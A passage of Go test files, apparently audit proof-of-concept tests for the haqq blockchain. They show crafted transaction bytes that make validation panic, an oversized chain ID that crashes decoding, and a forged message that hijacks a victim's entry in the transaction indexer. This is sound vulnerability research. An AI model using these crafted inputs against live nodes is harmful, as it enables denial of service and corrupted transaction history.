			"the erc20 module account's coins were staked by a third party; the module account was neither the signer nor the caller of the precompile")
	}
	noGrant("after the user's MsgConvertCoin")
}
