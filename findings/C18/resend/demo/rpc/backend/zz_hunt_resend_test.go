package backend

import (
	"cosmossdk.io/math"
	"github.com/cometbft/cometbft/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/rpc/backend/mocks"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// An account of the node's keyring has a signed Ethereum transaction waiting in
// the mempool (wrapped in its Cosmos envelope). eth_resend is called with the
// very same transaction fields and a higher gas limit.
//
// Property: decoding the Cosmos envelope from the mempool and unwrapping it
// yields the Ethereum transaction with the same signing hash and the same
// recoverable sender, so eth_resend finds it, signs the replacement and returns
// the replacement's Ethereum hash.
func (suite *BackendTestSuite) TestZZHuntResendFindsPendingTx() {
	suite.SetupTest()

	priv, _ := ethsecp256k1.GenerateKey()
	from := common.BytesToAddress(priv.PubKey().Address().Bytes())
	toAddr := utiltx.GenerateAddress()
	gasPrice := new(hexutil.Big)
	gas := hexutil.Uint64(21000)
	newGas := hexutil.Uint64(42000)
	nonce := hexutil.Uint64(1)
	baseFee := math.NewInt(1)

	pendingArgs := evmtypes.TransactionArgs{From: &from, To: &toAddr, GasPrice: gasPrice, Gas: &gas, Nonce: &nonce}
	replacementArgs := evmtypes.TransactionArgs{From: &from, To: &toAddr, GasPrice: gasPrice, Gas: &newGas, Nonce: &nonce}

	// the pending transaction, wrapped, as it sits in the mempool
	client, pendingBz := broadcastTx(suite, priv, baseFee, pendingArgs)
	// the replacement the node is expected to sign and broadcast
	wrap := func(args evmtypes.TransactionArgs) []byte {
		msg := args.ToTransaction()
		suite.Require().NoError(msg.Sign(ethtypes.LatestSigner(suite.backend.ChainConfig()), suite.backend.clientCtx.Keyring))
		tx, err := msg.BuildTx(suite.backend.clientCtx.TxConfig.NewTxBuilder(), evmtypes.DefaultEVMDenom)
		suite.Require().NoError(err)
		bz, err := suite.backend.clientCtx.TxConfig.TxEncoder()(tx)
		suite.Require().NoError(err)
		return bz
	}
	replacementBz := wrap(replacementArgs)
	suite.Require().Equal(pendingBz, wrap(pendingArgs))
	RegisterBroadcastTx(client, replacementBz)
	RegisterUnconfirmedTxs(client, nil, []types.Tx{pendingBz})

	// sanity: the envelope from the mempool unwraps to the transaction of pendingArgs
	queryClient := suite.backend.queryClient.QueryClient.(*mocks.EVMQueryClient)
	RegisterParamsWithoutHeader(queryClient, 1)
	signer := ethtypes.LatestSigner(suite.backend.ChainConfig())
	pendingMsg := pendingArgs.ToTransaction()
	suite.Require().NoError(pendingMsg.Sign(signer, suite.backend.clientCtx.Keyring))
	pendingTxs, err := suite.backend.PendingTransactions()
	suite.Require().NoError(err)
	suite.Require().Len(pendingTxs, 1)
	unwrapped, err := evmtypes.UnwrapEthereumMsg(pendingTxs[0], pendingMsg.AsTransaction().Hash())
	suite.Require().NoError(err)
	sender, err := ethtypes.Sender(signer, unwrapped.AsTransaction())
	suite.Require().NoError(err)
	suite.Require().Equal(from, sender)

	replacementMsg := replacementArgs.ToTransaction()
	suite.Require().NoError(replacementMsg.Sign(signer, suite.backend.clientCtx.Keyring))
	expHash := replacementMsg.AsTransaction().Hash()

	hash, err := suite.backend.Resend(pendingArgs, nil, &newGas)
	suite.T().Logf("pending tx %s from %s; eth_resend returned hash=%s err=%v",
		pendingMsg.AsTransaction().Hash(), from, hash, err)
	suite.Require().NoError(err, "the pending transaction of %s must be found behind its Cosmos envelope", from)
	suite.Require().Equal(expHash, hash)
}
