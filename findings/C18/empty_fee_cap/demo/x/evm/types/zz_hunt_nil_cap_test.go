package types_test

import (
	"fmt"
	"math/big"
	"testing"
	"time"

	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	authtx "github.com/cosmos/cosmos-sdk/x/auth/tx"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/evm/types"
)

func noPanic(f func()) (msg string) {
	defer func() {
		if r := recover(); r != nil {
			msg = fmt.Sprint(r)
		}
	}()
	f()
	return ""
}

// A dynamic-fee transaction whose tip cap (or fee cap) carries no value. go-ethereum reads a nil
// amount as zero (types.NewTx), the hash written into the message is computed that way too, and
// the two other transaction types answer a nil gas price with ErrInvalidGasPrice. The dynamic-fee
// type tests the *pointer* only: a non-nil pointer to an sdkmath.Int without a value - what the
// protobuf decoder builds for a field that is present on the wire with length 0 - goes straight
// into Int.IsNegative (Validate) or Int.BigInt arithmetic (EffectiveGasPrice) and panics.
func TestZZDynamicFeeTxWithoutTipCapValue(t *testing.T) {
	chainID := big.NewInt(54211)
	to := common.HexToAddress("0x1234")

	// ---- a signed dynamic-fee transaction, wrapped the regular way ----
	key, _ := crypto.GenerateKey()
	signed, err := ethtypes.SignNewTx(key, ethtypes.NewLondonSigner(chainID), &ethtypes.DynamicFeeTx{
		ChainID: chainID, Nonce: 0, Gas: 21000, To: &to, GasFeeCap: big.NewInt(10), GasTipCap: big.NewInt(0), Value: big.NewInt(0),
	})
	require.NoError(t, err)
	good := &types.MsgEthereumTx{}
	require.NoError(t, good.FromEthereumTx(signed))
	require.NoError(t, good.ValidateBasic())

	// re-encode the inner DynamicFeeTx with field 3 (gas_tip_cap) present but empty: tag 0x1a, length 0.
	// (proto3: the last occurrence of a scalar field wins.)
	wire := append(append([]byte{}, good.Data.Value...), 0x1a, 0x00)
	crafted := &types.MsgEthereumTx{Data: &codectypes.Any{TypeUrl: good.Data.TypeUrl, Value: wire}, Hash: good.Hash}

	encCfg := encoding.MakeConfig(app.ModuleBasics)
	option, err := codectypes.NewAnyWithValue(&types.ExtensionOptionsEthereumTx{})
	require.NoError(t, err)
	builder := encCfg.TxConfig.NewTxBuilder().(authtx.ExtensionOptionsTxBuilder)
	builder.SetExtensionOptions(option)
	require.NoError(t, builder.SetMsgs(crafted))
	builder.SetGasLimit(21000)
	bz, err := encCfg.TxConfig.TxEncoder()(builder.GetTx())
	require.NoError(t, err)

	dec, err := encCfg.TxConfig.TxDecoder()(bz)
	require.NoError(t, err, "the envelope decodes")
	got := dec.GetMsgs()[0].(*types.MsgEthereumTx)
	require.Equal(t, signed.Hash(), got.AsTransaction().Hash(), "and unwraps to the very same Ethereum transaction")

	// what the chain answers
	chain := utils.TestEdge2ChainID + "-1"
	haqq, _ := app.Setup(false, nil, chain)
	haqq.Commit()
	haqq.BeginBlock(abci.RequestBeginBlock{Header: tmproto.Header{ChainID: chain, Height: haqq.LastBlockHeight() + 1, Time: time.Now().UTC()}})
	res := haqq.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
	t.Logf("DeliverTx of the crafted envelope: codespace=%s code=%d log=%.120q", res.Codespace, res.Code, res.Log)

	// ---- the property: the unwrapped transaction is the original one, so the message answers like the original's ----
	sender, err := ethtypes.Sender(ethtypes.NewLondonSigner(chainID), got.AsTransaction())
	require.NoError(t, err)
	require.Equal(t, crypto.PubkeyToAddress(key.PublicKey), sender, "same recoverable sender")

	var vErr error
	p := noPanic(func() { vErr = got.ValidateBasic() })
	t.Logf("decoded envelope: ValidateBasic() -> err=%v panic=%q", vErr, p)
	gotData, err := types.UnpackTxData(got.Data)
	require.NoError(t, err)
	var price *big.Int
	p2 := noPanic(func() { price = gotData.EffectiveGasPrice(big.NewInt(7)) })
	refMsg, err := signed.AsMessage(ethtypes.NewLondonSigner(chainID), big.NewInt(7))
	require.NoError(t, err)
	t.Logf("effective price at base fee 7: go-ethereum=%v message=%v panic=%q", refMsg.GasPrice(), price, p2)

	require.Empty(t, p, "MsgEthereumTx.ValidateBasic panics on a decoded envelope (Legacy/AccessList answer a gas price without a value with ErrInvalidGasPrice)")
	require.NotEqual(t, uint32(111222), res.Code, "the chain answers the envelope with ErrPanic instead of a validation verdict")
}
