package evm_test

import (
	"math/big"

	sdkmath "cosmossdk.io/math"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	evmante "github.com/haqq-network/haqq/app/ante/evm"
	"github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
)

// London not active (keeper.GetBaseFee == nil) and a global MinGasPrice > 0:
// a dynamic fee transaction has to be refused by the EVM ante chain with a
// regular error ("dynamic fee tx not supported", EthValidateBasicDecorator).
// EthMinGasPriceDecorator runs BEFORE that check and derives the effective fee of
// the message with the nil base fee.
func (suite *AnteTestSuite) TestZZHuntDynamicFeeTxWithoutLondon() {
	prev := suite.enableLondonHF
	suite.enableLondonHF = false
	defer func() { suite.enableLondonHF = prev }()
	suite.SetupTest()

	params := suite.app.FeeMarketKeeper.GetParams(suite.ctx)
	params.MinGasPrice = sdkmath.LegacyNewDec(10)
	suite.Require().NoError(suite.app.FeeMarketKeeper.SetParams(suite.ctx, params))

	// sanity: no base fee in this configuration
	evmParams := suite.app.EvmKeeper.GetParams(suite.ctx)
	ethCfg := evmParams.ChainConfig.EthereumConfig(suite.app.EvmKeeper.ChainID())
	suite.Require().Nil(suite.app.EvmKeeper.GetBaseFee(suite.ctx, ethCfg))

	from, privKey := testutiltx.NewAddrKey()
	to := testutiltx.GenerateAddress()
	emptyAccessList := ethtypes.AccessList{}

	// fee cap 1000 >= MinGasPrice 10: by go-ethereum's rule (no base fee => price = fee cap)
	// the min-gas-price check is satisfied.
	msg := suite.BuildTestEthTx(from, to, nil, make([]byte, 0), nil, big.NewInt(1000), big.NewInt(1), &emptyAccessList)
	tx := suite.CreateTestTx(msg, privKey, 1, false)

	// 1. the decorator alone
	var (
		err      error
		panicked interface{}
	)
	func() {
		defer func() { panicked = recover() }()
		dec := evmante.NewEthMinGasPriceDecorator(suite.app.FeeMarketKeeper, suite.app.EvmKeeper)
		_, err = dec.AnteHandle(suite.ctx, tx, false, testutil.NextFn)
	}()
	suite.Require().Nil(panicked, "EthMinGasPriceDecorator must not panic on a dynamic fee tx without base fee: %v", panicked)
	suite.Require().NoError(err, "fee cap 1000 * gas >= MinGasPrice 10 * gas")

	// 2. the whole ante handler: a clean rejection
	func() {
		defer func() { panicked = recover() }()
		_, err = suite.anteHandler(suite.ctx, tx, false)
	}()
	suite.Require().Nil(panicked, "ante handler panicked: %v", panicked)
	suite.Require().Error(err)
	suite.Require().Contains(err.Error(), "dynamic fee tx not supported")
}
