package types_test

import (
	"math/big"
	"testing"

	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/x/evm/types"
)

// Property C18: the effective price / fee / cost derived from the message equal
// those of the original Ethereum transaction.
//
// The chain calls these helpers with baseFee == nil whenever the London fork is
// not active (keeper.GetBaseFee returns nil then). go-ethereum defines the
// effective price of every transaction type for that case
// (Transaction.AsMessage(signer, nil).GasPrice() == GasPrice() == GasFeeCap for a
// dynamic fee tx). The message-side figures must agree.
func TestZZHuntEffectiveFiguresWithNilBaseFee(t *testing.T) {
	key, err := crypto.GenerateKey()
	require.NoError(t, err)
	to := common.HexToAddress("0x1234")
	chainID := big.NewInt(11235)
	signer := ethtypes.NewLondonSigner(chainID)
	gas := uint64(21000)
	value := big.NewInt(7)

	cases := []struct {
		name  string
		inner ethtypes.TxData
	}{
		{"legacy", &ethtypes.LegacyTx{Nonce: 1, GasPrice: big.NewInt(5), Gas: gas, To: &to, Value: value}},
		{"access list", &ethtypes.AccessListTx{ChainID: chainID, Nonce: 1, GasPrice: big.NewInt(5), Gas: gas, To: &to, Value: value}},
		{"dynamic fee", &ethtypes.DynamicFeeTx{ChainID: chainID, Nonce: 1, GasTipCap: big.NewInt(1), GasFeeCap: big.NewInt(5), Gas: gas, To: &to, Value: value}},
	}

	for _, tc := range cases {
		tc := tc
		t.Run(tc.name, func(t *testing.T) {
			orig, err := ethtypes.SignNewTx(key, signer, tc.inner)
			require.NoError(t, err)

			// figures of the original transaction without a base fee
			ethMsg, err := orig.AsMessage(signer, nil)
			require.NoError(t, err)
			wantPrice := ethMsg.GasPrice()
			wantFee := new(big.Int).Mul(wantPrice, new(big.Int).SetUint64(gas))
			wantCost := new(big.Int).Add(wantFee, value)

			msg := &types.MsgEthereumTx{}
			require.NoError(t, msg.FromEthereumTx(orig))
			require.NoError(t, msg.ValidateBasic())
			txData, err := types.UnpackTxData(msg.Data)
			require.NoError(t, err)

			var gotPrice, gotFee, gotCost, gotMsgFee *big.Int
			var panicked interface{}
			func() {
				defer func() { panicked = recover() }()
				gotPrice = txData.EffectiveGasPrice(nil)
				gotFee = txData.EffectiveFee(nil)
				gotCost = txData.EffectiveCost(nil)
				gotMsgFee = msg.GetEffectiveFee(nil)
			}()
			require.Nil(t, panicked, "effective figures of a %s tx without base fee: want price %s fee %s cost %s, got panic: %v",
				tc.name, wantPrice, wantFee, wantCost, panicked)

			require.Equal(t, wantPrice.String(), gotPrice.String(), "effective gas price")
			require.Equal(t, wantFee.String(), gotFee.String(), "effective fee")
			require.Equal(t, wantCost.String(), gotCost.String(), "effective cost")
			require.Equal(t, wantFee.String(), gotMsgFee.String(), "MsgEthereumTx.GetEffectiveFee")
		})
	}
}
