package indexer_test

import (
	"math/big"
	"testing"
	"time"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	tmlog "github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/client"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	authtx "github.com/cosmos/cosmos-sdk/x/auth/tx"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/indexer"
	rpctypes "github.com/haqq-network/haqq/rpc/types"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/evm/types"
)

// Property (C18): "the hash recorded in the message always equals the Ethereum hash".
// Every consumer of MsgEthereumTx.Hash relies on it. The KV indexer files a message under the
// *recorded* hash (common.HexToHash(ethMsg.Hash)) and never recomputes it, and it also indexes
// transactions whose DeliverTx FAILED, provided the failure log contains one of two marker
// strings. A message that fails ValidateBasic (so its recorded hash was never checked) with a
// log that contains such a marker is therefore filed under whatever hash its author wrote
// into it - for instance the hash of somebody else's transaction.
func TestZZIndexerFilesMessageUnderForgedHash(t *testing.T) {
	chainID := utils.TestEdge2ChainID + "-1"
	haqq, _ := app.Setup(false, nil, chainID)
	encodingConfig := MakeEncodingConfig()
	clientCtx := client.Context{}.WithTxConfig(encodingConfig.TxConfig).WithCodec(encodingConfig.Codec)
	txCfg := clientCtx.TxConfig

	ethSigner := ethtypes.LatestSignerForChainID(big.NewInt(54211))

	// --- the victim's genuine, correctly wrapped transaction (block 1, indexed normally) ---
	vPriv, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	vFrom := common.BytesToAddress(vPriv.PubKey().Address().Bytes())
	to := common.BigToAddress(big.NewInt(1))
	victim := types.NewTx(&types.EvmTxArgs{ChainID: big.NewInt(54211), Nonce: 0, To: &to, Amount: big.NewInt(1000), GasLimit: 21000, GasPrice: big.NewInt(1)})
	victim.From = vFrom.Hex()
	require.NoError(t, victim.Sign(ethSigner, utiltx.NewSigner(vPriv)))
	victimHash := victim.AsTransaction().Hash()
	vTx, err := victim.BuildTx(txCfg.NewTxBuilder(), utils.BaseDenom)
	require.NoError(t, err)
	vBz, err := txCfg.TxEncoder()(vTx)
	require.NoError(t, err)

	db := dbm.NewMemDB()
	idxer := indexer.NewKVIndexer(db, tmlog.NewNopLogger(), clientCtx)
	require.NoError(t, idxer.IndexBlock(
		&tmtypes.Block{Header: tmtypes.Header{Height: 1}, Data: tmtypes.Data{Txs: []tmtypes.Tx{vBz}}},
		[]*abci.ResponseDeliverTx{{
			Code: 0,
			Events: []abci.Event{{Type: types.EventTypeEthereumTx, Attributes: []abci.EventAttribute{
				{Key: "ethereumTxHash", Value: victimHash.Hex()},
				{Key: "txIndex", Value: "0"},
				{Key: "amount", Value: "1000"},
				{Key: "txGasUsed", Value: "21000"},
				{Key: "txHash", Value: ""},
				{Key: "recipient", Value: to.Hex()},
			}}},
		}},
	))
	before, err := idxer.GetByTxHash(victimHash)
	require.NoError(t, err)
	require.Equal(t, int64(1), before.Height)
	require.False(t, before.Failed)

	// --- somebody else's message that records the victim's hash ---
	aPriv, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	aFrom := common.BytesToAddress(aPriv.PubKey().Address().Bytes())
	forged := types.NewTx(&types.EvmTxArgs{ChainID: big.NewInt(54211), Nonce: 7, To: &to, Amount: big.NewInt(5), GasLimit: 50000, GasPrice: big.NewInt(1)})
	forged.From = aFrom.Hex()
	require.NoError(t, forged.Sign(ethSigner, utiltx.NewSigner(aPriv)))
	realHash := forged.AsTransaction().Hash()
	require.NotEqual(t, victimHash, realHash)

	forged.Hash = victimHash.Hex()          // recorded hash != Ethereum hash
	forged.From = "failed to commit stateDB" // fails ValidateBasic; the text ends up in the DeliverTx log

	option, err := codectypes.NewAnyWithValue(&types.ExtensionOptionsEthereumTx{})
	require.NoError(t, err)
	builder := txCfg.NewTxBuilder().(authtx.ExtensionOptionsTxBuilder)
	builder.SetExtensionOptions(option)
	require.NoError(t, builder.SetMsgs(forged))
	builder.SetGasLimit(50000)
	fBz, err := txCfg.TxEncoder()(builder.GetTx())
	require.NoError(t, err)

	// the REAL application delivers the block that contains it (a block proposer decides what
	// goes into a block; ProcessProposal is the SDK's no-op handler because of the NoOp mempool)
	haqq.Commit()
	haqq.BeginBlock(abci.RequestBeginBlock{Header: tmproto.Header{ChainID: chainID, Height: haqq.LastBlockHeight() + 1, Time: time.Now().UTC()}})
	res := haqq.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: fBz})
	t.Logf("DeliverTx: code=%d codespace=%s log=%q", res.Code, res.Codespace, res.Log)
	require.NotEqual(t, uint32(0), res.Code, "the message is refused by ValidateBasic")
	require.True(t, rpctypes.TxSucessOrExpectedFailure(&res), "...but the JSON-RPC side counts it as an 'expected failure' that belongs to the EVM history")

	require.NoError(t, idxer.IndexBlock(
		&tmtypes.Block{Header: tmtypes.Header{Height: 2}, Data: tmtypes.Data{Txs: []tmtypes.Tx{fBz}}},
		[]*abci.ResponseDeliverTx{&res},
	))

	// 1. nothing may be filed under a hash that is not the Ethereum hash of the filed message
	after, err := idxer.GetByTxHash(victimHash)
	require.NoError(t, err)
	t.Logf("index entry of the victim's hash %s: before=%+v after=%+v", victimHash.Hex(), *before, *after)
	require.Equal(t, *before, *after,
		"the index entry of the victim's transaction %s now points at another message (block %d, failed=%v) whose Ethereum hash is %s",
		victimHash.Hex(), after.Height, after.Failed, realHash.Hex())
}
