package types_test

import (
	"fmt"
	"math/big"
	"testing"

	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/x/evm/types"
)

// Property C18: wrapping a signed Ethereum transaction into MsgEthereumTx either
// yields a message with the same hash / sender / fields, or is refused with an
// error - for ALL field values. FromEthereumTx / UnmarshalBinary have an error
// return for exactly that purpose (oversized value, gas price and fee caps are
// refused through types.SafeNewIntFromBigInt).
//
// The chain id of the typed (EIP-2930 / EIP-1559) transactions is an arbitrary
// precision integer on the wire, but it is converted with the panicking
// sdkmath.NewIntFromBigInt, so raw bytes received from a client crash the
// conversion instead of being refused.
func TestZZHuntTypedTxOversizedChainID(t *testing.T) {
	key, err := crypto.GenerateKey()
	require.NoError(t, err)
	from := crypto.PubkeyToAddress(key.PublicKey)
	to := common.HexToAddress("0x1234")

	// smallest chain id that needs 257 bits
	chainID := new(big.Int).Lsh(big.NewInt(1), 256)

	cases := []struct {
		name   string
		inner  ethtypes.TxData
		signer ethtypes.Signer
	}{
		{
			"legacy EIP-155",
			&ethtypes.LegacyTx{Nonce: 1, GasPrice: big.NewInt(1), Gas: 21000, To: &to, Value: big.NewInt(1)},
			ethtypes.NewEIP155Signer(chainID),
		},
		{
			"access list",
			&ethtypes.AccessListTx{ChainID: chainID, Nonce: 1, GasPrice: big.NewInt(1), Gas: 21000, To: &to, Value: big.NewInt(1)},
			ethtypes.NewLondonSigner(chainID),
		},
		{
			"dynamic fee",
			&ethtypes.DynamicFeeTx{ChainID: chainID, Nonce: 1, GasTipCap: big.NewInt(1), GasFeeCap: big.NewInt(1), Gas: 21000, To: &to, Value: big.NewInt(1)},
			ethtypes.NewLondonSigner(chainID),
		},
	}

	for _, tc := range cases {
		tc := tc
		t.Run(tc.name, func(t *testing.T) {
			orig, err := ethtypes.SignNewTx(key, tc.signer, tc.inner)
			require.NoError(t, err)

			// what a client hands to eth_sendRawTransaction / `haqqd tx evm raw`
			raw, err := orig.MarshalBinary()
			require.NoError(t, err)

			// go-ethereum itself decodes these bytes without complaint
			require.NoError(t, new(ethtypes.Transaction).UnmarshalBinary(raw))

			msg := &types.MsgEthereumTx{}
			var (
				wrapErr  error
				panicked interface{}
			)
			func() {
				defer func() { panicked = recover() }()
				wrapErr = msg.UnmarshalBinary(raw)
			}()

			require.Nil(t, panicked,
				"wrapping a decodable %s transaction must return an error or a faithful message, it panicked: %v",
				tc.name, panicked)

			if wrapErr != nil {
				// refusing is fine
				return
			}
			// accepted: then it has to be faithful
			require.Equal(t, orig.Hash().Hex(), msg.Hash)
			require.Equal(t, orig.Hash(), msg.AsTransaction().Hash())
			txData, err := types.UnpackTxData(msg.Data)
			require.NoError(t, err)
			sender, err := msg.GetSender(txData.GetChainID())
			require.NoError(t, err)
			require.Equal(t, from, sender, fmt.Sprintf("sender of %s tx", tc.name))
		})
	}
}
