package staking_test

// Shared helpers of the zz_hunt_c05_* demonstrations: a tiny EVM assembler (there is no solc in the
// sandbox) and real-transaction helpers (every call goes through BaseApp.DeliverTx: ante handler,
// MsgEthereumTx handler, ApplyTransaction).

import (
	"math/big"
	"time"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"
	"github.com/ethereum/go-ethereum/crypto"

	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// ---------------------------------------------------------------------------
// tiny EVM assembler helpers (no solc in the sandbox)
// ---------------------------------------------------------------------------

func zzPush1(b byte) []byte { return []byte{byte(vm.PUSH1), b} }

func zzCat(parts ...[]byte) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

func zzOp(ops ...vm.OpCode) []byte {
	out := make([]byte, len(ops))
	for i, o := range ops {
		out[i] = byte(o)
	}
	return out
}

// zzInitCode wraps a runtime bytecode in a constructor that just returns it.
func zzInitCode(runtime []byte) []byte {
	// PUSH1 len, DUP1, PUSH1 off, PUSH1 0, CODECOPY, PUSH1 0, RETURN
	const ctorLen = 11
	ctor := zzCat(
		zzPush1(byte(len(runtime))), zzOp(vm.DUP1),
		zzPush1(ctorLen), zzPush1(0), zzOp(vm.CODECOPY),
		zzPush1(0), zzOp(vm.RETURN),
	)
	if len(ctor) != ctorLen || len(runtime) > 255 {
		panic("bad init code")
	}
	return append(ctor, runtime...)
}

// zzDeploy deploys raw runtime bytecode with a real contract-creation transaction.
func (s *PrecompileTestSuite) zzDeploy(runtime []byte) common.Address {
	nonce := s.app.EvmKeeper.GetNonce(s.ctx, s.address)
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    nonce,
		GasLimit: 500_000,
		GasPrice: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		Input:    zzInitCode(runtime),
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().False(ethRes.Failed(), ethRes.VmError)

	addr := crypto.CreateAddress(s.address, nonce)
	s.Require().Equal(runtime, s.app.EvmKeeper.GetCode(s.ctx, crypto.Keccak256Hash(runtime)), "deployed code")
	s.Require().True(s.app.EvmKeeper.GetAccount(s.ctx, addr).IsContract(), "deployed account")
	return addr
}

// zzCall sends a real MsgEthereumTx with raw calldata and returns the EVM response.
func (s *PrecompileTestSuite) zzCall(to common.Address, value *big.Int, data []byte) *evmtypes.MsgEthereumTxResponse {
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       &to,
		Amount:   value,
		GasLimit: 2_000_000,
		GasPrice: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		Input:    data,
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	return ethRes
}

// zzNextBlock commits the current block and begins the next one (testify flavour of s.NextBlock).
func (s *PrecompileTestSuite) zzNextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
}

func zzWord(a common.Address) []byte { return common.LeftPadBytes(a.Bytes(), 32) }
