package staking_test

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"
	"github.com/ethereum/go-ethereum/crypto"

	bankprecompile "github.com/haqq-network/haqq/precompiles/bank"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
)

// zzCatcherRuntime is the "parent that catches the failure":
//
//	calldata = callee(32) ++ payload
//	ok = callee.call{value: msg.value}(payload)   // result is ignored: never bubbles up
//	return ok
func zzCatcherRuntime() []byte {
	return zzCat(
		// calldatacopy(0, 32, calldatasize-32)
		zzPush1(32), zzOp(vm.CALLDATASIZE, vm.SUB), zzPush1(32), zzPush1(0), zzOp(vm.CALLDATACOPY),
		// call(gas, callee, callvalue, 0, calldatasize-32, 0, 0)
		zzPush1(0), zzPush1(0),
		zzPush1(32), zzOp(vm.CALLDATASIZE, vm.SUB),
		zzPush1(0),
		zzOp(vm.CALLVALUE),
		zzPush1(0), zzOp(vm.CALLDATALOAD),
		zzOp(vm.GAS, vm.CALL),
		// return ok
		zzPush1(0), zzOp(vm.MSTORE), zzPush1(32), zzPush1(0), zzOp(vm.RETURN),
	)
}

// zzRevertingRuntime is the inner frame that always reverts:
//
//	calldata = target(32) ++ beneficiary(32) ++ payload
//	sstore(0, 42)
//	beneficiary.call{value: msg.value}("")
//	target.call(payload)
//	revert()
func zzRevertingRuntime() []byte {
	return zzCat(
		// sstore(0, 42)
		zzPush1(42), zzPush1(0), zzOp(vm.SSTORE),
		// call(gas, beneficiary, callvalue, 0, 0, 0, 0)
		zzPush1(0), zzPush1(0), zzPush1(0), zzPush1(0),
		zzOp(vm.CALLVALUE),
		zzPush1(32), zzOp(vm.CALLDATALOAD),
		zzOp(vm.GAS, vm.CALL, vm.POP),
		// calldatacopy(0, 64, calldatasize-64)
		zzPush1(64), zzOp(vm.CALLDATASIZE, vm.SUB), zzPush1(64), zzPush1(0), zzOp(vm.CALLDATACOPY),
		// call(gas, target, 0, 0, calldatasize-64, 0, 0)
		zzPush1(0), zzPush1(0),
		zzPush1(64), zzOp(vm.CALLDATASIZE, vm.SUB),
		zzPush1(0),
		zzPush1(0),
		zzPush1(0), zzOp(vm.CALLDATALOAD),
		zzOp(vm.GAS, vm.CALL, vm.POP),
		// revert(0, 0)
		zzPush1(0), zzPush1(0), zzOp(vm.REVERT),
	)
}

// zzRunCaughtRevert runs   EOA -> catcher -> reverting(target)   and reports what the reverted
// inner frame left behind in the committed state.
func (s *PrecompileTestSuite) zzRunCaughtRevert(target common.Address, payload []byte, value *big.Int) (slot0 common.Hash, innerBal, benefBal, catcherBal *big.Int, supplyDelta *big.Int) {
	catcher := s.zzDeploy(zzCatcherRuntime())
	inner := s.zzDeploy(zzRevertingRuntime())
	s.zzNextBlock()

	beneficiary, _ := testutiltx.NewAddrKey()

	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount

	data := zzCat(zzWord(inner), zzWord(target), zzWord(beneficiary), payload)
	ethRes := s.zzCall(catcher, value, data)
	// the outer transaction succeeds, and the catcher reports that the inner call failed
	s.Require().False(ethRes.Failed(), "outer tx must succeed: %s", ethRes.VmError)
	s.Require().Equal(common.Hash{}.Bytes(), ethRes.Ret, "inner frame must have reverted (call returned 0)")

	// read in the same block, so that the per-block coinomics mint does not show up in the supply delta
	supplyAfter := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	bal := func(a common.Address) *big.Int {
